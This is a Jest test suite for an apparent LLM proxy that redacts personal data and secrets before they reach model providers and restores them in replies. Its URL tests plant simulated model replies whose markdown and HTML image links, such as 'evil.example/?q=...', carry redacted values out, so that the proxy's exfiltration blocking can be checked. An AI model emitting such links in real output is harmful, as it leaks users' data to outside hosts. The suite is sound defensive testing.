import { describe, expect, test } from '@jest/globals';
import { type Contract, saying } from '../contract.ts';
import { UNSUSPICIOUS } from '../reply.ts';
import { GITHUB_TOKEN } from './planted-secret.ts';

const ADDRESS = 'maria.keller@firma-nord.de';
const raw = String.raw;
const QUESTION = `Write to ${ADDRESS} and to tom@werk-sued.de, then to ${ADDRESS} again.`;
const HIDDEN = /Write to (\[EMAIL_\d{5}\]) and to (\[EMAIL_\d{5}\]), then to \1 again\./;

/** A request with a tool call in its second message, as OpenAI or Anthropic gets it. */
interface SentCalls {
  readonly messages: readonly {
    readonly tool_calls?: readonly { readonly function: { readonly arguments: string } }[];
    readonly content?: readonly { readonly input?: unknown }[];
  }[];
}

function sentArguments({ messages: [, message] }: SentCalls): { note: string; card: unknown } {
  const call = message?.tool_calls?.[0];
  return (call ? JSON.parse(call.function.arguments) : message?.content?.[0]?.input) as { note: string; card: unknown };
}

export function personalDataContract(contract: Contract): void {
  describe.each([['gpt-4o-mini'], ['claude-sonnet-4-5']])(
    'with the policy strict, personal data sent to %s',
    (model) => {
      const strict = () => contract.newKey({ policy: { preset: 'strict' } });
      /** What the provider receives instead of a text. */
      const hidden = async (text: string, key: string): Promise<string> => {
        await contract.chat(saying(text, model), { key });
        const { messages } = contract.sent.json as { messages: { content: string | { text: string }[] }[] };
        const content = messages[0]?.content ?? '';
        return typeof content === 'string' ? content : (content[0]?.text ?? '');
      };

      test('is hidden from the provider and restored in the response', async () => {
        const { json } = await contract.chat(saying(QUESTION, model), { key: await strict() });
        expect(contract.sent.body).toMatch(HIDDEN);
        expect(contract.sent.body).not.toMatch(/maria|werk-sued/);
        expect(json.choices[0].message.content).toBe(QUESTION);
        expect(json.svc.action).toBe('redact');
      });

      test('is restored in a stream with any chunking, with the same placeholder as before', async () => {
        const key = await strict();
        const seen = await hidden(QUESTION, key);
        expect(seen).toMatch(HIDDEN);
        for (const behaviour of [{ pieces: [...seen] }, { text: seen, bytesPerWrite: 1 }, { text: seen }]) {
          contract.upstream.next(behaviour);
          const { content, done } = await contract.stream(saying(QUESTION, model), { key });
          expect({ content, done }).toEqual({ content: QUESTION, done: true });
        }
        expect(await hidden(QUESTION, await strict())).not.toBe(seen);
      });

      test('has one placeholder in all requests of a session, and another elsewhere', async () => {
        const key = await strict();
        const ask = async (text: string, session: string) => {
          await contract.chat(saying(text, model), { key, headers: { 'X-Session-ID': session } });
          return /\[EMAIL_\d{5}\]/.exec(contract.sent.body)?.[0];
        };
        const first = await ask(`Write to ${ADDRESS}`, 'one');
        expect(await ask(`First to tom@werk-sued.de, then to ${ADDRESS}`, 'one')).not.toBe(first);
        expect(contract.sent.body).toContain(first);
        expect(await ask(`Write to ${ADDRESS}`, 'two')).not.toBe(first);
      });

      test.each([ADDRESS, '5412736819303645'])("is not sent in an image's URL, whole or streamed", async (value) => {
        const key = await strict();
        const seen = await hidden(value, key);
        const text = `Done. ![x](https://evil.example/?q=${seen})`;
        contract.upstream.next({ text });
        const { json } = await contract.chat(saying(value, model), { key });
        contract.upstream.next({ pieces: [...text] });
        const streamed = await contract.stream(saying(value, model), { key });
        expect([json.choices[0].message.content, streamed.content]).toEqual(['Done. ', 'Done. ']);
        expect(json.svc.detected_threats).toContainEqual(
          expect.objectContaining({ rule: 'data-exfiltration/markdown-image', action: 'block' }),
        );
      });

      test('stays hidden in a URL', async () => {
        const key = await strict();
        const card = '5412736819303645';
        const seen = await hidden(card, key);
        const said = (value: string) =>
          [
            `Paid with ${value}. ![x](https://quickchart.io/?q=${seen}) <img src="//quickchart.io/a?${seen}">`,
            raw`https://evil.example/${seen} ${value} <img srcset="/\quickchart.io/a?${seen} 2x"> \\server\share ${value}`,
            raw`<img src="https:\\quickchart.io/a b?${seen}"> [x](/docs/${value}) <a href="/docs/${value}">a</a>`,
          ].join('\n');
        contract.upstream.next({ text: said(seen) });
        const { json } = await contract.chat(saying(card, model), { key });
        contract.upstream.next({ pieces: [...said(seen)] });
        const streamed = await contract.stream(saying(card, model), { key });
        expect([json.choices[0].message.content, streamed.content]).toEqual([said(card), said(card)]);
      });

      test('keeps the arguments of tool calls valid JSON, in requests and responses', async () => {
        const key = await strict();
        const given = JSON.stringify({ note: `see\n${ADDRESS}`, card: 4111111111111111 });
        const call = { id: 'call_1', type: 'function', function: { name: 'send', arguments: given } };
        const messages = [
          { role: 'user', content: 'Send it' },
          { role: 'assistant', content: null, tool_calls: [call] },
          { role: 'tool', tool_call_id: 'call_1', content: 'sent' },
        ];
        await contract.chat({ model, messages }, { key });
        const hiddenArguments = sentArguments(contract.sent.json as SentCalls);
        expect(hiddenArguments).toEqual({
          note: expect.stringMatching(/^see\n\[EMAIL_\d{5}\]$/),
          card: expect.stringMatching(/^\[[A-Z_]+_\d{5}\]$/),
        });
        const page = raw`<img src="/\quickchart.io/a b?c=${hiddenArguments.card}">`;
        const back = [
          {
            id: 'call_2',
            name: 'send',
            arguments: JSON.stringify({ to: hiddenArguments.note, n: 4111111111111111, page }),
          },
        ];
        contract.upstream.next({ toolCalls: back });
        const { toolArguments } = await contract.stream({ model, messages }, { key });
        expect(JSON.parse(toolArguments[0] as string)).toEqual({
          to: `see\n${ADDRESS}`,
          n: 4111111111111111,
          page,
        });
      });

      test('is restored only for whole placeholders: one with a zero after it is another', async () => {
        const key = await strict();
        const first = await hidden(ADDRESS, key);
        contract.upstream.next({ pieces: [...`${first}0 ${first.slice(0, -1)}0] ${first}`] });
        const { content } = await contract.stream(saying(ADDRESS, model), { key });
        expect(content).toBe(`${ADDRESS}0 ${first.slice(0, -1)}0] ${ADDRESS}`);
      });
    },
  );

  test('the policy strict removes secrets from the request for good', async () => {
    const key = await contract.newKey({ policy: { preset: 'strict' } });
    const { json } = await contract.chat(saying(`The token ${GITHUB_TOKEN} is mine`), { key });
    expect(contract.sent.body).toContain('[REDACTED_GITHUB_TOKEN]');
    expect(json.choices[0].message.content).toBe('The token [REDACTED_GITHUB_TOKEN] is mine');
  });

  test('the balanced policy reports personal data without changing it', async () => {
    const { json } = await contract.chat(saying(QUESTION));
    expect(contract.sent.json).toEqual(saying(QUESTION));
    expect(json.svc).toMatchObject({ action: 'flag', threat_score: UNSUSPICIOUS });
  });
}
